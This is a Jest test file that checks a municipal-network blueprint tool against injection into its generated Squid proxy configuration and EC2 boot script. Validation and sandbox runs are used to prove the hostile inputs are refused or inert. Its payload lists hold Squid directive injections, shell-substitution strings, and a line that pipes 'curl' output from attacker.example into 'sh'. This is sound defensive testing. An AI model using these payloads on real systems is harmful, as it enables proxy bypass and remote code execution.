/**
 * Injection through the α′ breakout, proven with the real programs. Every free-text field of a cloud-service
 * definition, of its tenant settings and of the breakout is given hostile content (a line break and a Squid directive,
 * a carriage return, `#`, quotes, a backslash, `${…}`, backticks, `$(…)`, `;`, NUL, U+2028/U+2029, a very long string):
 * - validation refuses it, naming the field; or
 * - where the value is legitimate (unusual but valid, such as a `#` in a display name), the generated squid.conf passes the
 *   real `squid -k parse` with exactly the directives of the same blueprint with a plain value (Squid's own list of what it
 *   processed), and the boot script passes `bash -n` and, run in a sandbox with `aws`, `dnf`, `systemctl`… stubbed on
 *   PATH, runs exactly the expected commands with exactly the expected arguments and nothing else.
 * A CA secret ARN that is a reference resolves only at deploy time: whatever it resolves to, the engine's base64 of it is
 * inert in the script, which refuses anything but a Secrets Manager ARN before running a single command.
 */
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { alphaPrime } from '../../examples/blueprints';
import {
  BreakoutServiceProps, CloudServiceCategory, CloudServiceDefinition, MunicipalNetworkBlueprintProps, Port, validateBlueprint,
} from '../../src';
import { Blueprint } from '../../src/model/validate';
import { planNetwork } from '../../src/plan';
import { TenantProxyPlan } from '../../src/plan/network-plan';
import { renderSquidConfig } from '../../src/plan/squid';
import { certgen, localizeSquidConf, openssl, squid } from '../support/squid';
import { findExecutable, requireTool } from '../support/tools';

const bash = findExecutable('bash');
const python3 = ['/usr/bin/python3', '/bin/python3'].find((p) => fs.existsSync(p));
const haveTools = requireTool('squid', Boolean(squid && certgen && openssl && bash && python3),
  'the injection tests need squid and security_file_certgen (Debian package squid-openssl), openssl, bash and /usr/bin/python3');
const describeWithTools = haveTools ? describe : describe.skip;

const ARN = alphaPrime.breakout!.tenantProxy!.caSecretArn;

/** A tenant-restricted service of one's own, with every free-text field in use (so that each reaches squid.conf if it can). */
const OWN: CloudServiceDefinition = {
  id: 'own-chat',
  name: 'Own chat',
  category: CloudServiceCategory.COMMUNICATION_TOOL,
  ismapListed: true,
  domains: ['chat.example.com', '*.files.example.com'],
  ports: [Port.HTTPS, Port.tcp(8443)],
  portsReason: 'The chat API listens on 8443',
  documentationUrl: 'https://example.com/docs',
  media: { cidrs: ['198.51.100.0/24'], ports: [Port.udp(3478)], reason: 'UDP media of calls', documentationUrl: 'https://example.com/ips' },
  tenantRestriction: {
    scheme: 'Own allowed tenants',
    hosts: ['chat.example.com'],
    headers: [{ name: 'X-Own-Tenants', valueTemplate: 'v1={tenants}', separator: ',' }],
    documentationUrl: 'https://example.com/tenant-restriction',
    tenantIdDescription: 'your tenant IDs',
  },
};
const IPS_RULE = (msg: string) => `drop tls $HOME_NET any -> $EXTERNAL_NET any (msg:"${msg}"; tls.sni; content:"bad.example"; sid:1000001; rev:1;)`;

/** One free-text field: where validation reports it, and how to put a value there (the plain value is `plain`). */
interface Field {
  readonly name: string;
  readonly path: RegExp;
  readonly plain: string;
  /**
   * The message quotes the value with JSON.stringify, which leaves U+2028/U+2029 as they are (src/model/cidr.ts,
   * cidrSpellingProblem, outside this change; reported). The value is refused all the same.
   */
  readonly rawSeparatorsInMessage?: boolean;
  set(value: string): MunicipalNetworkBlueprintProps;
}

function props(service: CloudServiceDefinition = OWN, entry: Partial<BreakoutServiceProps> = {}, breakout: Record<string, unknown> = {},
  m365: Partial<BreakoutServiceProps> = {}): MunicipalNetworkBlueprintProps {
  const [first, ...rest] = alphaPrime.breakout!.services;
  return {
    ...alphaPrime,
    breakout: {
      ...alphaPrime.breakout!,
      services: [{ ...first, ...m365 }, ...rest, { service, tenantIds: ['tenant-1'], ...entry }],
      ...breakout,
    },
  };
}
const tr = OWN.tenantRestriction!;
const header = tr.headers[0];
const S = String.raw`^\[breakout\.services\[4\](\(own-chat\))?\.service`;
const FIELDS: Field[] = [
  { name: 'service id', path: new RegExp(`${S}\\.id\\]`), plain: 'own-chat', set: (v) => props({ ...OWN, id: v }) },
  { name: 'service name', path: new RegExp(`${S}\\.name\\]`), plain: 'Own chat', set: (v) => props({ ...OWN, name: v }) },
  { name: 'domain', path: new RegExp(`${S}\\.domains\\[1\\]\\]`), plain: '*.files.example.com', set: (v) => props({ ...OWN, domains: [OWN.domains[0], v] }) },
  { name: 'documentation URL', path: new RegExp(`${S}\\.documentationUrl\\]`), plain: OWN.documentationUrl, set: (v) => props({ ...OWN, documentationUrl: v }) },
  { name: 'ports reason', path: new RegExp(`${S}\\.portsReason\\]`), plain: OWN.portsReason!, set: (v) => props({ ...OWN, portsReason: v }) },
  { name: 'media reason', path: new RegExp(`${S}\\.media\\.reason\\]`), plain: OWN.media!.reason, set: (v) => props({ ...OWN, media: { ...OWN.media!, reason: v } }) },
  {
    name: 'media documentation URL',
    path: new RegExp(`${S}\\.media\\.documentationUrl\\]`),
    plain: OWN.media!.documentationUrl,
    set: (v) => props({ ...OWN, media: { ...OWN.media!, documentationUrl: v } }),
  },
  {
    name: 'media CIDR',
    path: new RegExp(`${S}\\.media\\.cidrs\\[0\\]\\]`),
    plain: OWN.media!.cidrs[0],
    set: (v) => props({ ...OWN, media: { ...OWN.media!, cidrs: [v] } }),
    rawSeparatorsInMessage: true,
  },
  {
    name: 'tenant scheme',
    path: new RegExp(`${S}\\.tenantRestriction\\.scheme\\]`),
    plain: tr.scheme,
    set: (v) => props({ ...OWN, tenantRestriction: { ...tr, scheme: v } }),
  },
  {
    name: 'tenant host',
    path: new RegExp(`${S}\\.tenantRestriction\\.hosts\\[0\\]\\]`),
    plain: tr.hosts[0],
    set: (v) => props({ ...OWN, tenantRestriction: { ...tr, hosts: [v] } }),
  },
  {
    name: 'header name',
    path: new RegExp(`${S}\\.tenantRestriction\\.headers\\[0\\]\\.name\\]`),
    plain: header.name,
    set: (v) => props({ ...OWN, tenantRestriction: { ...tr, headers: [{ ...header, name: v }] } }),
  },
  {
    name: 'header value template',
    path: new RegExp(`${S}\\.tenantRestriction\\.headers\\[0\\]\\.valueTemplate\\]`),
    plain: header.valueTemplate,
    set: (v) => props({ ...OWN, tenantRestriction: { ...tr, headers: [{ ...header, valueTemplate: v }] } }),
  },
  {
    name: 'header separator',
    path: new RegExp(`${S}\\.tenantRestriction\\.headers\\[0\\]\\.separator\\]`),
    plain: ',',
    set: (v) => props({ ...OWN, tenantRestriction: { ...tr, headers: [{ ...header, separator: v }] } }),
  },
  {
    name: 'tenant documentation URL',
    path: new RegExp(`${S}\\.tenantRestriction\\.documentationUrl\\]`),
    plain: tr.documentationUrl,
    set: (v) => props({ ...OWN, tenantRestriction: { ...tr, documentationUrl: v } }),
  },
  {
    name: 'tenant ID description',
    path: new RegExp(`${S}\\.tenantRestriction\\.tenantIdDescription\\]`),
    plain: tr.tenantIdDescription,
    set: (v) => props({ ...OWN, tenantRestriction: { ...tr, tenantIdDescription: v } }),
  },
  { name: 'tenant ID', path: /^\[breakout\.services\[4\]\.tenantIds\[1\]\]/, plain: 'tenant-2', set: (v) => props(OWN, { tenantIds: ['tenant-1', v] }) },
  { name: 'Entra policy ID', path: /^\[breakout\.services\[0\]\.policyId\]/, plain: '00000000-0000-4000-8000-0000000000aa', set: (v) => props(OWN, {}, {}, { policyId: v }) },
  {
    name: 'Entra directory ID',
    path: /^\[breakout\.services\[0\]\.directoryId\]/,
    plain: '00000000-0000-4000-8000-000000000001',
    set: (v) => props(OWN, {}, {}, { directoryId: v }),
  },
  { name: 'IPS rule', path: /^\[breakout\.ipsRules\[0\]\]/, plain: 'bad SNI', set: (v) => props(OWN, {}, { ipsRules: [IPS_RULE(v)] }) },
  {
    name: 'extra rule group ARN',
    path: /^\[breakout\.extraStatefulRuleGroupArns\[0\]\]/,
    plain: 'arn:aws:network-firewall:ap-northeast-1:111122223333:stateful-rulegroup/extra',
    set: (v) => props(OWN, {}, { extraStatefulRuleGroupArns: [v] }),
  },
  { name: 'CA secret ARN', path: /^\[breakout\.tenantProxy\.caSecretArn\]/, plain: ARN, set: (v) => props(OWN, {}, { tenantProxy: { caSecretArn: v } }) },
  {
    name: 'CA secret KMS key ARN',
    path: /^\[breakout\.tenantProxy\.caSecretKmsKeyArn\]/,
    plain: 'arn:aws:kms:ap-northeast-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab',
    set: (v) => props(OWN, {}, { tenantProxy: { caSecretArn: ARN, caSecretKmsKeyArn: v } }),
  },
  { name: 'proxy instance type', path: /^\[breakout\.tenantProxy\.instanceType\]/, plain: 't3.medium', set: (v) => props(OWN, {}, { tenantProxy: { caSecretArn: ARN, instanceType: v } }) },
];

/** Hostile content, appended to the plain value; `always` ones must be refused in every field. */
const PAYLOADS: { name: string; text: string; always: boolean }[] = [
  { name: 'line break and a directive', text: '\nhttp_reply_access allow all\n#', always: true },
  { name: 'carriage return and a directive', text: '\rhttp_access allow all', always: true },
  { name: 'NUL', text: '\u0000http_access allow all', always: true },
  { name: 'U+2028', text: '\u2028http_access allow all', always: true },
  { name: 'U+2029', text: '\u2029acl clients src all', always: true },
  { name: '${…}', text: '${file("/etc/passwd")}', always: true },
  { name: 'very long (one Squid line buffer and more)', text: `${'x'.repeat(9000)} http_access allow all`, always: true },
  { name: '#', text: '#', always: false },
  { name: 'double quote', text: '"', always: false },
  { name: 'single quote', text: "'", always: false },
  { name: 'backslash', text: '\\', always: false },
  { name: 'backticks', text: '`touch PWNED`', always: false },
  { name: '$(…)', text: '$(touch PWNED)', always: false },
  { name: ';', text: '; touch PWNED', always: false },
];

/**
 * The directive lines Squid reports processing (`squid -k parse` logs "Processing: <line>" for each) and the directive
 * lines of the file it read (the configuration with this machine's paths).
 */
function squidProcessed(dir: string, conf: string): { processed: string[]; written: string[] } {
  const local = localizeSquidConf(conf, dir);
  const file = path.join(dir, 'squid.conf');
  fs.writeFileSync(file, local);
  const result = spawnSync(squid!, ['-k', 'parse', '-f', file], { encoding: 'utf8', timeout: 30_000 });
  const output = `${result.stdout}${result.stderr}`;
  // "Processing: <directive>" lines echo the configuration (e.g. sslproxy_cert_error); only Squid's own diagnostics count.
  expect(output.split('\n').filter((l) => !/\| Processing: /.test(l) && /ERROR|FATAL|WARNING|unrecognized|Bungled/i.test(l))).toEqual([]);
  expect(result.status).toBe(0);
  return {
    processed: output.split('\n').filter((l) => l.includes('| Processing: ')).map((l) => l.slice(l.indexOf('| Processing: ') + 14)),
    written: directiveLines(local),
  };
}

const directiveLines = (conf: string) => conf.split('\n').map((l) => l.trim()).filter((l) => l !== '' && !l.startsWith('#'));

/** Commands the boot script may run (stubbed); anything else it runs is a real program of the base system. */
const STUBS = [
  'dnf', 'install', 'aws', 'chown', 'chmod', 'squid', 'systemctl', 'security_file_certgen', 'amazon-cloudwatch-agent-ctl', 'curl', 'sh', 'touch', 'wget', 'reboot',
];

interface SandboxRun {
  readonly status: number | null;
  readonly stderr: string;
  /** Each stubbed command run, as its name and %q-quoted arguments. */
  readonly calls: string[];
  /** Files that appeared in the sandbox besides the ones the script is meant to write. */
  readonly stray: string[];
  readonly caCert?: string;
  readonly caKey?: string;
  readonly squidConf?: string;
}

/**
 * Run the boot script in a temporary directory: absolute paths moved under it, the commands of `STUBS` replaced by stubs
 * that record their arguments (`aws` prints `secret`, `install -d` makes the directory), PATH holding the stubs and the
 * base system only, no network.
 */
function runInSandbox(script: string, secret: string): SandboxRun {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'jichitai-boot-'));
  try {
    const bin = path.join(root, 'bin');
    const calls = path.join(root, 'calls.log');
    fs.mkdirSync(bin);
    const record = '{ printf \'%s\' "$(basename "$0")"; for a in "$@"; do printf \' %q\' "$a"; done; printf \'\\n\'; } >> "$JICHITAI_CALLS"';
    for (const name of STUBS) {
      const extra = name === 'aws' ? 'printf \'%s\' "$JICHITAI_SECRET"' : name === 'install' ? 'mkdir -p "${@: -1}"' : 'true';
      fs.writeFileSync(path.join(bin, name), `#!${bash}\n${record}\n${extra}\n`, { mode: 0o755 });
    }
    for (const real of ['base64', 'cut', 'cat', 'rm', 'mkdir', 'basename']) {
      const found = ['/usr/bin', '/bin'].map((d) => path.join(d, real)).find((p) => fs.existsSync(p));
      if (found) fs.symlinkSync(found, path.join(bin, real));
    }
    fs.symlinkSync(python3!, path.join(bin, 'python3'));
    // What `dnf install -y amazon-cloudwatch-agent` would have created.
    fs.mkdirSync(path.join(root, 'opt/aws/amazon-cloudwatch-agent/etc'), { recursive: true });
    const local = script
      .replace(/^\/usr\/lib64\/squid\/security_file_certgen /m, 'security_file_certgen ')
      .replace(/^\/opt\/aws\/amazon-cloudwatch-agent\/bin\/amazon-cloudwatch-agent-ctl /m, 'amazon-cloudwatch-agent-ctl ')
      .replace(/\/opt\/aws/g, path.join(root, 'opt/aws'))
      .replace(/\/etc\/squid/g, path.join(root, 'etc/squid'))
      .replace(/\/var\/lib\/squid/g, path.join(root, 'var/lib/squid'));
    const file = path.join(root, 'boot.sh');
    fs.writeFileSync(file, local);
    const syntax = spawnSync(bash!, ['-n', file], { encoding: 'utf8' });
    expect({ status: syntax.status, stderr: syntax.stderr }).toEqual({ status: 0, stderr: '' });
    const before = new Set(fs.readdirSync(root));
    const result = spawnSync(bash!, [file], {
      cwd: root,
      encoding: 'utf8',
      timeout: 30_000,
      env: { PATH: bin, HOME: root, JICHITAI_CALLS: calls, JICHITAI_SECRET: secret, LANG: 'C' },
    });
    const read = (p: string) => (fs.existsSync(p) ? fs.readFileSync(p, 'utf8') : undefined);
    const stray = fs.readdirSync(root).filter((f) => !before.has(f) && !['etc', 'calls.log'].includes(f));
    const agentDir = path.join(root, 'opt/aws/amazon-cloudwatch-agent/etc');
    stray.push(...fs.readdirSync(agentDir).filter((f) => f !== 'jichitai-proxy-access-log.json').map((f) => `opt/aws/amazon-cloudwatch-agent/etc/${f}`));
    return {
      status: result.status,
      stderr: result.stderr,
      calls: (read(calls) ?? '').split('\n').filter(Boolean).map((l) => l.replace(root, '<root>').replace(root, '<root>')),
      stray,
      caCert: read(path.join(root, 'etc/squid/ssl/ca.pem')),
      caKey: read(path.join(root, 'etc/squid/ssl/ca.key')),
      squidConf: read(path.join(root, 'etc/squid/squid.conf'))?.split(root).join(''),
    };
  } finally {
    if (!process.env.JICHITAI_KEEP_TEST_DIRS) fs.rmSync(root, { recursive: true, force: true });
  }
}

/** What the script must run, and nothing else, for a valid ARN: the stubs, in order, with exactly these arguments. */
function expectedCalls(arn: string): string[] {
  const region = arn.split(':')[3];
  const q = (s: string) => (/^[A-Za-z0-9_./:@=+-]+$/.test(s) ? s : `'${s}'`);
  return [
    'dnf install -y squid',
    'install -d -m 0750 -o squid -g squid <root>/etc/squid/ssl',
    `aws secretsmanager get-secret-value --region ${region} --secret-id ${q(arn)} --query SecretString --output text`,
    'chown squid:squid <root>/etc/squid/ssl/ca.pem <root>/etc/squid/ssl/ca.key',
    'chmod 0600 <root>/etc/squid/ssl/ca.key',
    'chmod 0644 <root>/etc/squid/ssl/ca.pem',
    'security_file_certgen -c -s <root>/var/lib/squid/ssl_db -M 16MB',
    'chown -R squid:squid <root>/var/lib/squid/ssl_db',
    'squid -k parse -f <root>/etc/squid/squid.conf',
    'systemctl enable --now squid',
    'dnf install -y amazon-cloudwatch-agent',
    'amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:<root>/opt/aws/amazon-cloudwatch-agent/etc/jichitai-proxy-access-log.json',
  ];
}

/** A secret whose PEM fields try to run commands when written out. */
const HOSTILE_SECRET = JSON.stringify({ certificate: "CERT $(touch PWNED) `touch PWNED` '; touch PWNED; '\n", privateKey: 'KEY ${IFS}$(reboot)\n' });

describeWithTools('α′ breakout injection, with the real Squid and bash', () => {
  let dir: string;
  let baseline: TenantProxyPlan;
  let baselineProcessed: { processed: string[]; written: string[] };
  const tally = { refused: 0, accepted: [] as string[] };
  beforeAll(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'jichitai-injection-'));
    for (const name of ['bump-ca']) {
      spawnSync(openssl!, ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', `${name}.key`, '-out', `${name}.pem`, '-days', '2',
        '-subj', `/CN=jichitai-test-${name}`, '-addext', 'basicConstraints=critical,CA:TRUE', '-addext', 'keyUsage=critical,keyCertSign,cRLSign'], { cwd: dir });
    }
    baseline = planNetwork(Blueprint.validate(props())).tenantProxy!;
    baselineProcessed = squidProcessed(dir, baseline.squidConfig);
  });
  afterAll(() => {
    if (dir && !process.env.JICHITAI_KEEP_TEST_DIRS) fs.rmSync(dir, { recursive: true, force: true });
    // eslint-disable-next-line no-console
    console.log(`breakout injection tally: ${tally.refused + tally.accepted.length} hostile values, ${tally.refused} refused by validation naming the field, `
      + `${tally.accepted.length} accepted as legitimate and proven inert with squid -k parse and bash (${tally.accepted.join('; ')})`);
  });

  test('the plain blueprint: Squid processes exactly the generated directives; the boot script runs exactly the expected commands', () => {
    expect(baselineProcessed.processed).toEqual(baselineProcessed.written);
    expect(baselineProcessed.processed.some((l) => l.startsWith('request_header_add X-Own-Tenants "v1=tenant-1" tenant_own_chat'))).toBe(true);
    const run = runInSandbox(baseline.bootScript, HOSTILE_SECRET);
    expect({ status: run.status, stderr: run.stderr, stray: run.stray }).toEqual({ status: 0, stderr: '', stray: [] });
    expect(run.calls).toEqual(expectedCalls(ARN));
    // The secret's content is written as data, byte for byte, never run.
    expect(run.caCert).toBe(JSON.parse(HOSTILE_SECRET).certificate);
    expect(run.caKey).toBe(JSON.parse(HOSTILE_SECRET).privateKey);
    expect(run.squidConf).toBe(baseline.squidConfig.split('\n').join('\n'));
  });

  const cases = FIELDS.flatMap((f) => PAYLOADS.map((p) => [`${f.name}: ${p.name}`, f, p] as const));
  test.each(cases)('%s', (_, field, payload) => {
    const value = `${field.plain}${payload.text}`;
    const blueprint = field.set(value);
    const errors = validateBlueprint(blueprint);
    // Messages stay one line each, whatever the value.
    for (const e of errors) expect(e).not.toMatch(field.rawSeparatorsInMessage ? /[\r\n\u0000]/ : /[\r\n\u2028\u2029\u0000]/);
    if (errors.length > 0) {
      // Refused, and for this field.
      expect(errors.filter((e) => field.path.test(e))).not.toEqual([]);
      tally.refused++;
      return;
    }
    expect(payload.always).toBe(false);
    tally.accepted.push(`${field.name}: ${payload.name}`);
    // Accepted: prove it harmless with the real programs.
    const plan = planNetwork(Blueprint.validate(blueprint));
    const proxy = plan.tenantProxy!;
    const { processed, written } = squidProcessed(dir, proxy.squidConfig);
    expect(processed).toEqual(written);
    const shape = (lines: string[]) => lines.map((l) => `${l.split(' ')[0]}/${l.split(' ').length}`);
    expect(shape(processed)).toEqual(shape(baselineProcessed.processed));
    const run = runInSandbox(proxy.bootScript, HOSTILE_SECRET);
    expect({ status: run.status, stderr: run.stderr, stray: run.stray }).toEqual({ status: 0, stderr: '', stray: [] });
    expect(run.calls).toEqual(expectedCalls(ARN));
    // An accepted IPS rule is one rule, and no rule ahead of the allow-list passes.
    const ips = plan.firewalls.find((f) => f.key === 'Breakout')!.ruleGroups.find((g) => g.key === 'ips')!.rulesString!;
    expect(ips.split('\n').filter((l) => /^pass\s/.test(l))).toEqual([]);
    expect(ips.split('\n')).toHaveLength((blueprint.breakout!.ipsRules ?? ['', '']).length);
  });

  test('the reported name injection: refused by validation, and refused by the writer without validation', () => {
    const name = 'Microsoft 365\nhttp_reply_access allow all\n#';
    const bad = props({ ...OWN, name });
    expect(validateBlueprint(bad)).toEqual(expect.arrayContaining([expect.stringMatching(/^\[breakout\.services\[4\]\(own-chat\)\.service\.name\] .*line break/)]));
    expect(() => renderSquidConfig({ services: bad.breakout!.services, alphaPrimeCase: alphaPrime.alphaPrimeCase!, clientCidrs: ['10.0.64.0/20'] }))
      .toThrow(/squid\.conf: a comment cannot hold/);
  });

  describe('a CA secret ARN given as a reference: whatever it resolves to at deploy time, nothing runs before the ARN check', () => {
    const reference = planNetwork(Blueprint.validate(props(OWN, {}, { tenantProxy: { caSecretArn: '${aws_secretsmanager_secret.ca.arn}' } }))).tenantProxy!;
    /** The user data as CloudFormation (Fn::Base64) or Terraform (base64encode) assembles it around the resolved value. */
    const deployed = (value: string) => `${reference.bootScriptParts.head}${Buffer.from(value).toString('base64')}${reference.bootScriptParts.tail}`;

    test.each([
      "${x}'; curl -s http://attacker.example/p | sh; echo '",
      `${ARN}'; touch PWNED; echo '`,
      `${ARN}$(touch PWNED)`,
      `${ARN}\`touch PWNED\``,
      `${ARN}\ntouch PWNED`,
      `${ARN}; reboot`,
      `${ARN}\u0000; touch PWNED`,
      '--secret-id=x --endpoint-url=http://attacker.example',
      '',
    ])('%j', (value) => {
      const run = runInSandbox(deployed(value), HOSTILE_SECRET);
      expect(run.status).toBe(1);
      expect(run.stderr).toMatch(/not a Secrets Manager secret ARN; not configuring the proxy/);
      expect({ calls: run.calls, stray: run.stray, caCert: run.caCert }).toEqual({ calls: [], stray: [], caCert: undefined });
    });

    test('a valid ARN resolved at deploy time runs exactly the expected commands', () => {
      const arn = 'arn:aws:secretsmanager:ap-northeast-3:111122223333:secret:ca+x=y.z@w/q-AbCdEf';
      const run = runInSandbox(deployed(arn), HOSTILE_SECRET);
      expect({ status: run.status, stderr: run.stderr, stray: run.stray }).toEqual({ status: 0, stderr: '', stray: [] });
      expect(run.calls).toEqual(expectedCalls(arn));
    });
  });
});
